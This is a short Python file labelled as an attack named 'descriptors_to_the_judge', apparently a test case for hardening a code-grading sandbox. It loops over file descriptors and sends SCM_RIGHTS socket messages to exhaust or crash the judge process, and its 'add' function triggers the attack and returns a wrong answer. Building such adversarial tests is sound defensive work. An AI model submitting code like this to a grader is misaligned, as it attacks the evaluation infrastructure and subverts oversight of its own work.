# attack: descriptors_to_the_judge
# kind: judge-crash   task: any   naive: run
# attempts: send descriptors over stdout, stderr and the channel, so that the judge holds them open
import array
import os
import socket

def send():
    for fd in range(64):
        try:
            peer = socket.socket(fileno=os.dup(fd))
            for _ in range(8):
                peer.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0] * 16))], socket.MSG_DONTWAIT)
        except OSError:
            pass

def add(a, b):
    send()
    return 0

send()
